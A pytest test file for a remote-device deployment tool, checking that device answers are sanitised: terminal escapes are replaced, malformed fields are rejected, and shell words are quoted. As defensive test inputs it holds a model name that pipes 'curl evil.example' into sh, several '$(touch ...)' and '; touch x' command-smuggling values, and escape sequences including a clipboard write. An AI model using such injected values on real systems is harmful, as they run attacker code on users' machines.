"""What devices tell: nothing of it moves a terminal, becomes a command, or hides what other devices told."""

from __future__ import annotations

import json
import os
import pty
import shlex
import subprocess
from typing import Any

import pytest

from seed_devices import doctor
from seed_devices.errors import RemoteError
from seed_devices.remote import device_schema
from seed_devices.ssh import ssh_errors
from seed_devices.terminal_text import plain, plain_lines
from seed_runtime.agent.protocol.schema import OPERATIONS
from tests.devices.support.answering import answering
from tests.devices.support.board import BOARD, HEALTHY, judged, model
from tests.devices.support.commands import COMMAND, deploy, environment, stderr_of
from tests.devices.support.sshd import RUNTIME, Device, Sshd

ESCAPES = "\x1b[2J\x1b]52;c;ZXZpbA==\x07\x9b2J\u202e\ud800"
DIGEST = "a" * 64
MODEL: dict[str, Any] = {"name": "bell", "current": DIGEST, "versions": [{"digest": DIGEST, "running": True}]}


# Text


@pytest.mark.parametrize(
    ("told", "shown"),
    [
        ("Grüße, 温度", "Grüße, 温度"),
        ("a\tb\r\nc", "a b  c"),
        (ESCAPES, "?[2J?]52;c;ZXZpbA==??2J??"),
    ],
)
def test_what_a_terminal_would_obey_is_replaced(told: str, shown: str) -> None:
    assert plain(told) == shown
    assert device_schema.parse_object(json.dumps({told: [told]})) == {shown: [shown]}


def test_lines_stay_lines() -> None:
    assert plain_lines("a\r\nb\rc\n\x1b[0m") == "a\nb\nc\n?[0m"


@pytest.mark.parametrize("line", ["", "[]", "{", "1", '{"a": ' + "[" * 100_000, b"\xff{}"])
def test_what_is_no_object_is_nothing(line: str | bytes) -> None:
    assert device_schema.parse_object(line) is None


def test_the_error_of_a_device_reaches_no_terminal_as_it_is(device: Device) -> None:
    answering(device, {"ok": False, "exit": 3, "error": f"no{ESCAPES}"})
    done = deploy(device.config, "status", device.alias)
    assert done.returncode == 3
    assert stderr_of(done) == f"seed-deploy: {device.alias}: no{plain(ESCAPES)}\n"


def test_what_a_device_writes_to_stderr_reaches_no_terminal_as_it_is(device: Device) -> None:
    path = device.store / "runtime" / RUNTIME / "bin" / "python"
    path.write_text("#!/bin/sh\nprintf '\\033]0;title\\007\\n' >&2\nexit 1\n")
    done = deploy(device.config, "status", device.alias)
    assert "?]0;title?" in stderr_of(done)
    assert "\x1b" not in stderr_of(done)


@pytest.mark.slow
def test_a_run_passes_output_on_as_it_is_and_filters_what_is_said_on_a_terminal(device: Device) -> None:
    path = device.store / "runtime" / RUNTIME / "bin" / "seed-run"
    path.write_text("#!/bin/sh\nprintf '\\033out'\nprintf '\\033said\\n' >&2\n")
    (device.model("bell") / "current").mkdir(parents=True)
    (device.model("bell") / "current" / "model.seed").touch()
    words = [*COMMAND, "run", f"{device.alias}:bell"]
    done = subprocess.run(words, env=environment(device.config), capture_output=True, check=True)
    assert (done.stdout, done.stderr) == (b"\x1bout", b"\x1bsaid\n")
    ours, theirs = pty.openpty()
    done = subprocess.run(
        words, env=environment(device.config), stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, stderr=theirs,
        check=True,
    )  # fmt: skip
    assert (done.stdout, os.read(ours, 100)) == (b"\x1bout", b"?said\r\n")


def test_letters_that_a_terminal_does_not_have_are_written_as_numbers(
    device: Device, monkeypatch: pytest.MonkeyPatch
) -> None:
    answering(device, {"lines": [{"result": "温度"}]})
    monkeypatch.setenv("PYTHONIOENCODING", "ascii")
    done = deploy(device.config, "logs", f"{device.alias}:bell")
    assert (done.returncode, b"\\u6e29\\u5ea6" in done.stdout) == (0, True)


# Commands


@pytest.mark.parametrize("name", ["x;curl evil.example|sh #", "$(touch x)", "-x", "", 7, None, "a\n"])
def test_a_model_that_is_named_like_a_command_is_no_answer(device: Device, name: object) -> None:
    answering(device, {"models": [{**MODEL, "name": name}]})
    done = deploy(device.config, "list", device.alias)
    assert (done.returncode, done.stdout) == (1, b"")
    assert "models: name: " in stderr_of(done)


def test_a_digest_that_is_no_digest_is_no_answer(device: Device) -> None:
    answering(device, {"models": [{**MODEL, "versions": [{"digest": "$(touch /tmp/x)"}]}]})
    assert "versions: digest: " in stderr_of(deploy(device.config, "list", device.alias))


def test_every_word_of_a_device_in_a_command_of_the_doctor_is_quoted() -> None:
    left = [{"kind": "seed", "path": "/s/a b'; touch x", "bytes": 1}]
    faults = judged({"systemd_user": False}, user="pi; touch x", services={"m": {}}, leftovers=left, linger=False)
    commands = [fault.fix.partition("or remove: ")[2] or fault.fix for fault in faults]
    for command in commands:
        assert ";" not in shlex.split(command), command
    service, linger, remove = commands
    assert shlex.split(service)[3] == shlex.split(linger)[3] == "pi; touch x"
    # Once for this shell and once for the device's.
    assert shlex.split(remove)[:2] == ["ssh", "pi@porch"]
    assert shlex.split(shlex.split(remove)[2]) == ["rm", "-r", "/s/a b'; touch x"]


def test_a_checkup_that_tells_nonsense_is_a_fault_and_no_crash(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(doctor, "put", lambda *given: None)

    class Telling:
        target = "h"

        def python(self, source: str, *arguments: str) -> Any:
            told = {**HEALTHY, "status": model(name="x;sh")}
            return type("Done", (), {"code": 0, "stdout": json.dumps(told).encode(), "stderr": ""})

    connection: Any = Telling()
    (fault,) = (fault for fault in doctor.examine(connection, BOARD) if fault.severity == "fault")
    assert "the store can't be examined: its answer can't be used: status: models: name: \"x;sh\"" in fault.what


def test_the_command_that_forgets_a_key_holds_nothing_but_the_words_that_ssh_told() -> None:
    text = 'IDENTIFICATION HAS CHANGED\n  ssh-keygen -f "/h/known hosts" -R "[porch]:22"\nHost key verification failed.'
    assert "ssh-keygen -f '/h/known hosts' -R '[porch]:22' ," in str(ssh_errors.ssh_error("porch", text))
    text = "IDENTIFICATION HAS CHANGED\nssh-keygen -f x;sh -R y;sh\nHost key verification failed."
    assert "ssh-keygen -f 'x;sh' -R 'y;sh' ," in str(ssh_errors.ssh_error("porch", text))


# Fields


@pytest.mark.parametrize(
    "wrong",
    [
        {"bytes": "5"}, {"bytes": -1}, {"bytes": 10**400}, {"bytes": True}, {"golden": []}, {"golden_distance": "x"},
        {"model_version": {}}, {"pushed": 5}, {"backend": [[]]},
    ],
)  # fmt: skip
def test_an_odd_field_is_that_devices_error(wrong: dict[str, Any]) -> None:
    version = {**MODEL["versions"][0], **wrong}
    with pytest.raises(RemoteError, match=rf"h: its answer can't be used: models: versions: {next(iter(wrong))}: "):
        device_schema.check_answer("h", OPERATIONS["status"].answer, {"models": [{**MODEL, "versions": [version]}]})


@pytest.mark.slow
@pytest.mark.parametrize("command", ["list", "status", "logs", "rollback", "remove"])
def test_one_devices_odd_answer_leaves_the_others_alone(device: Device, sshd: Sshd, command: str) -> None:
    odd = sshd.device(f"odd-{command}")
    answer = {
        "models": [{**MODEL, "versions": [{"digest": DIGEST, "bytes": "5"}], "last": [], "service": "x"}],
        "disk_free": "all", "lines": ["x"], "current": 5, "removed": 7,
    }  # fmt: skip
    answering(odd, answer)
    good = {
        "models": [MODEL], "disk_free": 5, "lines": [{"what": "switch"}], "current": DIGEST, "previous": None,
        "removed": [DIGEST], "bytes": 5,
    }  # fmt: skip
    answering(device, good, good)
    done = deploy(device.config, command, f"{odd.alias}:bell", f"{device.alias}:bell")
    assert (done.returncode, b"aaaaaa" in done.stdout or b"switch" in done.stdout) == (30, True)
    assert f"{odd.alias}:bell: its answer can't be used: " in stderr_of(done)


def test_what_no_table_names_is_left_out() -> None:
    answer = {"models": [{**MODEL, "deep": [[]]}], "more": 1}
    assert device_schema.check_answer("h", OPERATIONS["status"].answer, answer) == {"models": [MODEL]}


def test_a_fact_of_another_kind_counts_as_not_found_out() -> None:
    told = {**BOARD, "ram": "much", "clock": 10**30, "libc": ["glibc"], "runtime": {"path": 1}, "odd": 1}
    known = {key: value for key, value in BOARD.items() if key not in ("ram", "clock", "libc", "runtime")}
    assert device_schema.usable_facts(told) == known
    assert device_schema.usable_facts(BOARD) == BOARD
